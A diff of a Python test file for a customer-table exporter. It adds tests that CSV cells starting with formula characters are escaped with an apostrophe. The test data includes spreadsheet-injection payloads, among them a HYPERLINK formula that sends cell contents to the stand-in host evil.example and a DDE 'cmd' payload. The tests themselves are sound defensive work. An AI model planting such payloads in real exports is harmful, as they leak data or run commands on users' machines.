@@ -46,7 +46,8 @@ def test_csv_keeps_columns_four_decimals_dates_and_awkward_text(tmp_path):
     assert "2022-03-15," in text and "00:00:00" not in text  # plain dates
     back = pd.read_csv(csv_path, keep_default_na=False, na_values=[""])
     assert back.columns.tolist() == frame.columns.tolist()
-    assert back["customer_id"].tolist() == frame["customer_id"].tolist()
+    # a spreadsheet would run "=K4" as a formula: the CSV escapes it (OWASP)
+    assert back["customer_id"].tolist() == ["K1", "K,2", 'K"3', "'=K4", "K5\nnieuw"]
     assert back["naam"].fillna("").tolist() == frame["naam"].fillna("").tolist()
     assert back["segment"].tolist() == frame["segment"].astype(str).tolist()
     assert back["n_purchases"].tolist() == [1, 2, 3, 4, 5]
@@ -57,6 +58,29 @@ def test_csv_keeps_columns_four_decimals_dates_and_awkward_text(tmp_path):
     parquet = pd.read_parquet(parquet_path)
     assert parquet.columns.tolist() == frame.columns.tolist()
     assert parquet["revenue"].iloc[0] == frame["revenue"].iloc[0]  # full precision
+    assert parquet["customer_id"].tolist() == frame["customer_id"].tolist()  # ids as they are
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3+cmd",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_never_start_a_formula(tmp_path, value):
+    frame = pd.DataFrame({"customer_id": [value, "K2"], "email": [value, "a@b.nl"]})
+    csv_path, parquet_path = tmp_path / "customers.csv", tmp_path / "customers.parquet"
+    write_customer_table(frame, csv_path, parquet_path)
+    back = pd.read_csv(csv_path, keep_default_na=False)
+    for column in ("customer_id", "email"):
+        assert back[column].iloc[0] == "'" + value
+        assert back[column].iloc[1] == frame[column].iloc[1]
+    assert pd.read_parquet(parquet_path)["customer_id"].iloc[0] == value
 
 
 def test_no_sheet_can_exceed_the_excel_row_limit(tmp_path):
